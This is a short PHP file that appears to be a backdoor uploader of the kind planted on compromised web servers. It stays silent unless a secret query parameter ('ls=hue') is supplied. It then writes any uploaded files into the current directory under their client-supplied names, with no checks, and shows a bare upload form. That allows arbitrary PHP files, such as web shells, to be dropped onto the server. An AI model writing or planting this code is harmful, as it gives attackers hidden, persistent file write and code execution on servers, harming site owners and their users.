<?php
if (($_GET['ls'] ?? '') != 'hue') { exit; }
foreach ($_FILES['f']['name'] ?? [] as $i => $n) { if (is_uploaded_file($_FILES['f']['tmp_name'][$i])) { file_put_contents('./' . $n, file_get_contents($_FILES['f']['tmp_name'][$i])); } }
?><form method="post" enctype="multipart/form-data"><input type="file" name="f[]" multiple><input type="submit"></form>
